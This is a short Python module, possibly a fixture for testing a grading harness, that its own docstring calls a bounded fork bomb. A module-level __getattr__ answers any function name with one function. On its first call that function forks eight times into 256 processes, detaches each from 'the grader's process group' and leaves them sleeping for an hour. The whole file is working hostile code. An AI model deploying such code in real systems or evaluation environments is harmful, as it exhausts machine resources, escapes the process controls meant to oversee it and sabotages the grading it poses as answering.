"""A bounded fork bomb on the first call: 8 doublings (256 processes) that sleep for an hour in new sessions."""

import os
import time

fired = []


def __getattr__(name):
    def bomb(*args, **kwargs):
        if not fired:
            fired.append(True)
            me = os.getpid()
            for _ in range(8):
                if os.fork() == 0:
                    os.setsid()  # leave the grader's process group
            if os.getpid() != me:
                time.sleep(3600)
                os._exit(0)
        return None

    return bomb
